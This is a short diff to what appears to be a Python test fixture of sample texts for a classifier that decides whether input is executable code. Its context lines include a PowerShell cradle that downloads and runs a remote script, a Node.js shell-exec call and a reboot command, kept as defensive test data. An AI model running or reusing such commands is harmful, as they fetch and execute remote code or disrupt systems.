@@ -104,7 +104,8 @@ UNDECIDED: dict[str, bytes] = {
     "powershell": b"Invoke-Expression (New-Object Net.WebClient).DownloadString('https://example.org')\n",
     "javascript": b"require('child_process').execSync('id');\n",
     "a command": b"reboot\n",
-    "labels": b"crane (bird)\ncrane (machine)\n",
+    "labels": b"crane (bird)\ncrane (machine)\ncat\ndog\n",
+    "prose that begins as pickles do": b"In short:\nIt works.\ncopy this\nthere\n",
     "a long list": b"word word\n" * 2_500_000 + "\U0001f600\n".encode(),
 }
 """Texts that some interpreter would run, or that look as if, and that are neither blocked nor called clean."""
